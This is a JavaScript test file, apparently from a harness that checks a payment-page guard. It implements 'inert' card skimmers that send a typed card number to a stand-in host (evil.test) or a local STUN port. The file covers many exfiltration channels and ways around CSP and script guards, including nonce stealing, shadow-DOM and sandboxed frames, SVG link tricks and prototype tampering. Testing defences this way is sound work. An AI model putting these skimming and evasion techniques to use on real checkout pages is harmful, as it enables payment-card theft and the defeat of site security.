// Inert skimmers of our own: what stolen code on a paying page would do with a card number, one for each way out of a page. They send an
// invented marker to a sink on this machine. The page names those to run; they run when the buyer presses the button, as a click would be abused.
"use strict";
(() => {
  const nonce = document.currentScript.nonce;
  // In a frame that is of a skimmer's making it runs at once, with the card that it was given.
  const { https, now } = document.currentScript.dataset;
  // Each with a port for STUN of its own.
  const wanted = new Map(document.currentScript.dataset.run.split(",").map((word) => word.split(":")));
  let run = "";
  let stun = "";
  const element = (name, attributes, parent = document.body) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    if (parent) parent.append(made);
    return made;
  };
  // Real ones ask a name server for a name with the card in it; here the port says whose message it is.
  const call = (Peer, port) => {
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const frame = () => element("iframe", {}).contentWindow;
  const at = (card, scheme = "https") => `${scheme}://${run}.evil.test:${https}/${run}?card=${card}`;
  /** A page that the policy goes along to, and the guard does not. */
  const blob = (card) => URL.createObjectURL(new Blob([`<meta http-equiv="refresh" content="0;url=${at(card)}">`], { type: "text/html" }));
  // Browsers ask only hosts of known registries whether they let a page use their passkeys: a provider's is the attacker's machine here.
  const named = (card) => `${card}.${run}.stripe.com`;
  /** An element that calls out once it is in the page, and whose callback nobody can change. */
  const sly = (name) => {
    const port = stun;
    const get = () => () => call(window[window.length - 1].RTCPeerConnection, port);
    class Sly extends HTMLElement {}
    Object.defineProperty(Sly.prototype, "connectedCallback", { get, set() {} });
    customElements.define(name, Sly);
    return name;
  };
  const place = () => document.querySelector("#place");
  /** A page of text with this script in it. */
  const text = (card, way) =>
    `<script src="${location.origin}/skimmers.js" data-run="${way}:${stun}" data-https="${https}" data-now="${card}"><\/script>`;
  /** A text that has a frame in it, and code that runs as soon as it is put in. */
  const upgraded = (name) => {
    const port = stun;
    customElements.define(name, class extends HTMLElement {
      constructor() {
        call(window[window.length - 1].RTCPeerConnection, port);
        super();
      }
    });
    return `<iframe></iframe><${name}></${name}>`;
  };
  const chosen = (tree) => {
    const choice = document.createElement("option");
    choice.append(tree);
    return choice;
  };
  const asked = new URL(location).searchParams;
  // What comes behind this script in the page: its tags, as they are put in, and what was in their attributes.
  let [late, veiled] = [null, ""];
  new MutationObserver((records) => {
    for (const { addedNodes, oldValue } of records) {
      veiled ||= oldValue ?? "";
      for (const node of addedNodes) if (node.localName === "script") late ??= node.cloneNode();
    }
  }).observe(document, { subtree: true, childList: true, attributes: true, attributeOldValue: true, attributeFilter: ["nonce"] });
  const load = (card, made) => {
    made.src = at(card);
    document.body.append(made);
  };
  const loadBy = (card, found) => load(card, Object.assign(document.createElement("script"), { nonce: found }));
  const own = (text) => {
    const made = document.createElement("script");
    made.nonce = nonce;
    made.textContent = text;
    return made;
  };

  // The twenty-three of reference/payments.md 4.3.
  const ways = {
    fetch: (card) => fetch(at(card), { method: "POST", mode: "no-cors", body: card }),
    xhr(card) {
      const request = new XMLHttpRequest();
      request.open("POST", at(card));
      request.send(card);
    },
    beacon: (card) => navigator.sendBeacon(at(card), card),
    websocket: (card) => new WebSocket(at(card, "wss")),
    eventsource: (card) => new EventSource(at(card)),
    image: (card) => { new Image().src = at(card); },
    css: (card) => { document.body.style.backgroundImage = `url("${at(card)}")`; },
    stylesheet: (card) => element("link", { rel: "stylesheet", href: at(card) }),
    font(card) {
      const font = new FontFace("f", `url("${at(card)}")`);
      document.fonts.add(font);
      return font.load();
    },
    script: (card) => element("script", { src: at(card) }),
    media: (card) => { new Audio(at(card)).load(); },
    object: (card) => element("object", { data: at(card), type: "image/png" }),
    frame: (card) => element("iframe", { src: at(card) }),
    form(card) {
      const form = element("form", { method: "POST", action: at(card) });
      element("input", { name: "card", value: card }, form);
      form.submit();
    },
    prefetch: (card) => element("link", { rel: "prefetch", href: at(card) }, document.head),
    ping: (card) => element("a", { href: "#pinged", ping: at(card) }).click(),
    location: (card) => { location = at(card); },
    "window-open": (card) => window.open(at(card)),
    preconnect: (card) => element("link", { rel: "preconnect", href: `https://${card}.preconnect.evil.test:${https}` }, document.head),
    "meta-refresh": (card) => element("meta", { "http-equiv": "refresh", content: `0; url=${at(card)}` }, document.head),
    webrtc: () => call(RTCPeerConnection, stun),
    "webrtc-in-a-frame": () => call(frame().RTCPeerConnection, stun),
    "same-origin": (card) => fetch("/checkout/note", { method: "POST", body: card }),
  };

  // Ways around a guard that is a script like any other.
  const tricks = {
    "open-of-a-frame": (card) => frame().open(at(card)),
    "open-by-document": (card) => document.open(at(card), "_blank", "popup"),
    "open-put-back"(card) {
      const { open } = Object.getOwnPropertyDescriptors(window);
      try { Object.defineProperty(window, "open", { ...open, configurable: true }); } catch { /* fixed */ }
      window.open(at(card));
    },
    "open-by-descriptor": (card) => Reflect.apply(Object.getOwnPropertyDescriptor(window, "open").value ?? window.open, window, [at(card)]),
    "own-window-lent": () => call(window.open("/blank").RTCPeerConnection, stun),
    "link-by-hand"(card) {
      const link = element("a", { href: at(card), target: "_blank" }, null);
      link.click();
    },
    "link-by-event"(card) {
      const link = element("a", { href: at(card), target: "_blank" }, null);
      const inner = element("b", {}, link);
      inner.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    },
    "link-in-a-picture"(card) {
      const link = document.createElementNS("http://www.w3.org/2000/svg", "a");
      link.setAttribute("href", at(card));
      link.setAttribute("target", "_blank");
      link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
    },
    "link-in-the-page": (card) => element("a", { href: at(card), target: "_blank" }).click(),
    "blob-opened": (card) => window.open(blob(card)),
    "blob-linked": (card) => element("a", { href: blob(card), target: "_blank" }).click(),
    "blob-gone-to"(card) {
      location = blob(card);
    },
    "link-with-an-argument": (card) => element("a", { href: at(card), target: "_blank" }, null).click(1),
    "link-rewritten-by-hand"(card) {
      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
      link.addEventListener("click", (event) => {
        event.stopImmediatePropagation();
        link.href = url;
      });
      link.click();
    },
    "link-rewritten-by-event"(card) {
      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" }, null)];
      link.onclick = () => { link.href = url; };
      link.dispatchEvent(new MouseEvent("click"));
    },
    "link-rewritten-the-second-time"(card) {
      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
      const event = new MouseEvent("click", { bubbles: true, cancelable: true });
      link.addEventListener("click", () => event.preventDefault(), { once: true });
      link.dispatchEvent(event);
      link.addEventListener("click", () => { link.href = url; });
      event.initEvent("click", true, true);
      link.dispatchEvent(event);
    },
    "link-rewritten-by-a-label"(card) {
      const [url, link] = [at(card), element("a", { href: "/blank", target: "_blank" })];
      element("button", { id: "labelled", type: "button" }, link).addEventListener("click", () => { link.href = url; });
      element("label", { for: "labelled" }).click();
    },
    "passkey-of-another": (card) => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: named(card) } }),
    "passkey-for-another": (card) => navigator.credentials.create({
      publicKey: {
        challenge: new Uint8Array(16), rp: { id: named(card), name: "x" }, user: { id: new Uint8Array(4), name: "x", displayName: "x" },
        pubKeyCredParams: [{ type: "public-key", alg: -7 }],
      },
    }),
    "passkey-told-of": (card) => PublicKeyCredential.signalUnknownCredential({ rpId: named(card), credentialId: "AAAA" }),
    "frame-in-a-range"() {
      const both = document.createDocumentFragment();
      both.append(document.createElement("iframe"), document.createElement(sly("x-range")));
      const range = document.createRange();
      range.selectNodeContents(element("div", {}));
      range.insertNode(both);
    },
    "frame-in-a-range-around"() {
      const range = document.createRange();
      const place = element("div", {});
      element("iframe", {}, element("p", {}, place));
      range.selectNodeContents(place);
      range.surroundContents(document.createElement(sly("x-around")));
    },
    "frame-while-it-loads"() {
      const port = stun;
      const made = document.createElement("iframe");
      made.addEventListener("load", () => call(window[length - 1].RTCPeerConnection, port));
      document.body.append(made);
    },
    "frame-beside-a-script"() {
      const both = document.createDocumentFragment();
      window.skim = (peer) => call(peer, stun);
      both.append(document.createElement("iframe"), own("skim(window[length - 1].RTCPeerConnection)"));
      document.body.append(both);
    },
    "frame-by-text"() {
      const place = element("div", {});
      place.innerHTML = "<iframe></iframe>";
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-in-a-shadow"() {
      const port = stun;
      const root = element("div", {}).attachShadow({ mode: "closed" });
      const made = document.createElement("iframe");
      // No list of windows has it.
      made.addEventListener("load", () => call(made.contentWindow.RTCPeerConnection, port));
      root.append(made);
    },
    "frame-in-a-shadow-at-once"() {
      const made = document.createElement("iframe");
      element("div", {}).attachShadow({ mode: "open" }).append(made);
      return call(made.contentDocument.defaultView.RTCPeerConnection, stun);
    },
    "window-by-a-frame-in-a-shadow"(card) {
      const made = document.createElement("iframe");
      element("div", {}).attachShadow({ mode: "open" }).append(made);
      made.contentWindow.open(at(card));
    },
    "frame-in-an-element"() {
      customElements.define("x-y", class extends HTMLElement {
        connectedCallback() { call(window[length - 1].RTCPeerConnection, stun); }
      });
      element("div", {}).innerHTML = "<iframe></iframe><x-y></x-y>";
    },
    "frame-in-a-caption"() {
      const table = element("table", {});
      const caption = document.createElement("caption");
      caption.append(document.createElement("iframe"));
      table.caption = caption;
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-by-a-frame"() {
      const child = frame();
      const made = document.createElement("iframe");
      child.Node.prototype.appendChild.call(document.body, made);
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-written-with-a-script"() {
      window.skim = (peer) => call(peer, stun);
      document.write(`<iframe></iframe><script nonce="${nonce}">skim(window[length - 1].RTCPeerConnection)<\/script>`);
    },
    "frame-written-with-an-element"() {
      const port = stun;
      let isFirst = true;
      customElements.define("x-z", class extends HTMLElement {
        constructor() {
          super();
          if (isFirst) call(window[window.length - 1].RTCPeerConnection, port);
          isFirst = false;
        }
      });
      document.write("<iframe></iframe><x-z></x-z>");
    },
    "frame-with-a-page"(card) {
      const page = `<script nonce="${nonce}">top.location = "${at(card)}"<\/script>`;
      element("iframe", { sandbox: "allow-scripts allow-top-navigation", srcdoc: page });
    },
    "natives-changed"(card) {
      const lie = () => location.origin;
      for (const [owner, name] of [[URL.prototype, "origin"], [NavigationDestination.prototype, "url"], [NavigateEvent.prototype, "destination"]]) {
        Object.defineProperty(owner, name, { get: lie });
      }
      Event.prototype.preventDefault = () => {};
      Function.prototype.call = Function.prototype.apply = Reflect.apply = () => undefined;
      Array.prototype[Symbol.iterator] = function* () {};
      WeakSet.prototype.has = () => true;
      String.prototype.lastIndexOf = () => 0;
      Object.prototype.get = lie;
      location = at(card);
    },
    "window-that-opened-this": (card) =>
      element("a", { href: `/checkout?run=none:0&second=${encodeURIComponent(at(card))}`, target: "second" }).click(),
    "window-of-a-provider"(card) {
      const [url, other] = [at(card), window.open("https://www.paypal.com/")];
      setTimeout(() => { other.location = url; }, 800);
    },
    "window-of-a-mail"(card) {
      window.open("mailto:shop@shop.test").location = at(card);
    },
    "window-above-all"() {
      const port = stun;
      return documentPictureInPicture.requestWindow().then((other) => call(other.RTCPeerConnection, port));
    },
    "frame-in-a-sandbox": (card) => element("iframe", { sandbox: "allow-scripts", srcdoc: text(card, "webrtc") }),
    "frame-in-a-sandbox-by-text"(card) {
      element("div", {}).innerHTML = `<iframe sandbox="allow-scripts" srcdoc="${text(card, "webrtc").replaceAll('"', "&quot;")}"></iframe>`;
    },
    "frame-that-leaves-from-a-sandbox": (card) =>
      element("iframe", { sandbox: "allow-scripts allow-top-navigation", srcdoc: `${text(card, "above")}<input value="${at(card)}">` }),
    "frame-given-a-page"(card) {
      element("iframe", {}).srcdoc = text(card, "webrtc");
    },
    "frame-given-a-page-in-a-sandbox"(card) {
      const made = element("iframe", { sandbox: "allow-scripts" });
      const page = document.createAttribute("srcdoc");
      made.setAttributeNode(page);
      page.value = text(card, "webrtc");
      made.removeAttribute("srcdoc");
      made.attributes.setNamedItem(Object.assign(document.createAttribute("srcdoc"), { value: text(card, "webrtc") }));
    },
    "frame-in-an-option"() {
      element("select", {}).options[0] = chosen(document.createElement("iframe"));
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-in-an-option-of-a-text"() {
      const kept = document.createElement("template");
      kept.innerHTML = "<option><b><iframe></iframe></b></option>";
      element("select", {})[0] = kept.content.firstChild;
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-in-an-option-of-another-page"() {
      const page = new DOMParser().parseFromString('<option xmlns="http://www.w3.org/1999/xhtml"><iframe/></option>', "text/xml");
      element("select", {})[0] = page.documentElement;
      return call(window[length - 1].RTCPeerConnection, stun);
    },
    "frame-by-text-beside-an-element"() {
      element("div", {}).innerHTML = upgraded("x-beside");
    },
    "lists-changed-for-a-link"(card) {
      const url = at(card);
      Array.prototype[Symbol.iterator] = function* () {};
      const link = document.createElement("a");
      link.href = url;
      link.target = "_blank";
      document.body.append(link);
      link.click();
    },
    "lists-changed-for-a-window"(card) {
      const url = at(card);
      for (const at of [0, 1, 2]) Object.defineProperty(Array.prototype, at, { get: () => "", set() {} });
      const other = window.open("https://www.paypal.com/");
      setTimeout(() => { other.location = url; }, 800);
    },
    "nonce-taken": (card) => loadBy(card, document.querySelector("script[src]").nonce),
    "nonce-of-a-record": (card) => loadBy(card, veiled),
    "nonce-of-a-template": (card) => loadBy(card, document.querySelector("#kept").content.querySelector("script").getAttribute("nonce")),
    "nonce-of-a-copy": (card) => load(card, late),
    "nonce-of-a-report"(card) {
      const url = at(card);
      new ReportingObserver((reports, watch) => {
        watch.disconnect();
        const made = document.createElement("script");
        made.nonce = /'nonce-([^']+)'/.exec(JSON.stringify(reports))[1];
        made.src = url;
        document.body.append(made);
      }, { types: ["csp-violation"] }).observe();
      element("script", { src: "https://nobody.evil.test/" });
    },
    "nonce-of-the-policy"(card) {
      const url = at(card);
      document.addEventListener("securitypolicyviolation", (event) => {
        const made = document.createElement("script");
        made.nonce = /'nonce-([^']+)'/.exec(event.originalPolicy)?.[1] ?? "";
        made.src = url;
        document.body.append(made);
      }, { once: true });
      element("script", { src: "https://nobody.evil.test/" });
    },
    ...globalThis.freshFrames({ element, at }),
    "worker-of-text"(card) {
      new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at(card))}, { mode: "no-cors" })`])));
    },
  };

  const later = (card) => {
    const link = element("a", { href: "/blank", target: "_blank" }, place());
    link.textContent = "Continue to pay";
    return [link, at(card)];
  };
  const shadowed = (card, mode, child) => {
    const link = element("a", { href: at(card), target: "_blank" }, place().attachShadow({ mode }));
    link.append(child);
  };
  const drawing = (text) => {
    place().innerHTML = `<svg width="300" height="60">${text.replace("<w/>", '<text y="40" font-size="40">Continue to pay</text>')}</svg>`;
    return document.querySelector("#place svg");
  };
  const used = (card, use, more = []) =>
    drawing(`<defs><g id="used"><a target="_blank" href="${at(card)}"><w/></a></g>${more.join("")}</defs>${use}`.replaceAll("<w/>", '<text y="40" font-size="40">Continue to pay</text>'));
  // Links that wait for a person.
  const links = {
    "link-put-in-at-the-click"(card) {
      const [link, url] = later(card);
      link.addEventListener("click", () => { link.href = url; });
    },
    "link-put-in-behind-the-click"(card) {
      const [link, url] = later(card);
      link.removeAttribute("href");
      window.addEventListener("click", (event) => {
        event.stopImmediatePropagation();
        Promise.resolve().then(() => {}).then(() => { link.href = url; });
      }, true);
    },
    "link-in-a-closed-tree": (card) => shadowed(card, "closed", "Continue to pay"),
    "link-around-a-slot"(card) {
      place().textContent = "Continue to pay";
      shadowed(card, "closed", document.createElement("slot"));
    },
    "link-in-a-written-tree"(card) {
      const link = `<a target="_blank" href="${at(card)}">Continue to pay</a>`;
      place().setHTMLUnsafe(`<div><template SHADOWROOTMODE="&#99;losed">${link}</template></div>`);
    },
    "link-in-a-frame"(card) {
      const made = element("iframe", { height: "60" }, place());
      made.contentDocument.body.innerHTML = `<a target="_blank" href="${at(card)}">Continue to pay</a>`;
    },
    "link-of-a-picture"(card) {
      const url = at(card);
      const link = drawing('<a target="_blank" xlink:href="/blank"><w/></a>').firstChild;
      link.addEventListener("click", () => link.setAttributeNS("http://www.w3.org/1999/xlink", "href", url));
    },
    "link-in-motion": (card) => drawing(`<a target="_blank" href="/blank"><set attributeName="href" to="${at(card)}"/><w/></a>`),
    "link-in-motion-to-be-saved": (card) =>
      drawing(`<a target="_blank" download="" href="${blob("")}"><set attributeName="href" to="${at(card)}"/><w/></a>`),
    "link-put-in-motion"(card) {
      const picture = drawing(`<a target="_blank" href="/blank"><set attributeName="href" to="${at(card)}" begin="indefinite"/><w/></a>`);
      picture.firstChild.addEventListener("click", () => {
        picture.querySelector("set").beginElement();
        picture.setCurrentTime(picture.getCurrentTime() + 1);
      });
    },
    "link-in-a-sandbox": (card) => element("iframe", {
      sandbox: "allow-popups", height: 60, srcdoc: `<body style="margin: 0; font-size: 40px"><a target="_blank" href="${at(card)}">Continue to pay</a>`,
    }, place()),
    "link-given-an-address"(card) {
      const [url, link] = [at(card), drawing('<a target="_blank" href="/blank"><w/></a>').firstChild];
      link.addEventListener("click", () => { link.href.baseVal = url; });
    },
    "link-given-a-motion"(card) {
      const picture = drawing(`<a target="_blank" href="/blank"><set attributeName="x" to="${at(card)}" begin="0s"/><w/></a>`);
      picture.firstChild.addEventListener("click", () => {
        picture.querySelector("set").setAttribute("attributeName", "href");
        picture.setCurrentTime(1);
      });
    },
    "link-used-by-an-escape": (card) => used(card, '<use href="#us%65d"/>'),
    "link-used-by-a-blank": (card) => used(card, '<use href="#used "/>'),
    "link-used-by-a-line-end": (card) => used(card, '<use href="#us&#10;ed"/>'),
    "link-used-in-a-row": (card) => used(card, '<use href="#u8"/>', [1, 2, 3, 4, 5, 6, 7, 8].map((at) => `<g id="u${at}"><use href="#${at > 1 ? `u${at - 1}` : "used"}"/></g>`)),
    "link-used-in-motion": (card) => used(card, '<use href="#safe"><set attributeName="href" to="#used"/></use>', ['<g id="safe"><w/></g>']),
    "link-used-from-nothing": (card) => used(card, '<use href="#none"><set attributeName="href" to="#used"/></use>'),
    "link-used": (card) => drawing(`<defs><g id="used"><a target="_blank" href="${at(card)}"><w/></a></g></defs><use href="#used"/>`),
  };

  const { edges, known } = globalThis.edges({ element, at, call, text, port: () => stun });
  /** What one in a frame, or in a second window, does there. */
  const there = { above() { top.location = document.querySelector("input").value; } };
  const go = { ...ways, ...tricks, ...links, ...edges, ...known, ...there };
  const start = (card) => {
    for (const [name, port] of wanted) {
      [run, stun] = [name, port];
      try {
        // What refuses is asked no further: stolen code keeps quiet.
        const done = go[name](card);
        if (done instanceof Promise) done.catch(() => {});
      } catch { /* refused */ }
    }
    // Not in the page: that may be written anew by now.
    window.haveRun = true;
  };
  window.skimmers = { ways: Object.keys(ways), tricks: Object.keys(tricks), links: Object.keys(links), edges: Object.keys(edges), known: Object.keys(known) };
  const [second, first] = [asked.get("second"), window.opener];
  if (second && first) {
    // A page of the shop that nobody guards, and that has no script of its own: its natives are taken.
    first.location = "/blank";
    setInterval(() => first.location.pathname === "/blank" && first.fetch(second, { mode: "no-cors" }), 300);
  }
  if (now) addEventListener("DOMContentLoaded", () => start(now));
  // Another host's window that opened this page asks.
  addEventListener("message", ({ data, source }) => data === "which card?" && source.postMessage(document.querySelector("#card").value, "*"));
  if (!now && !wanted.has("")) {
    document.querySelector("#pay").addEventListener("click", (event) => {
      event.preventDefault();
      start(document.querySelector("#card").value);
    });
  }
})();
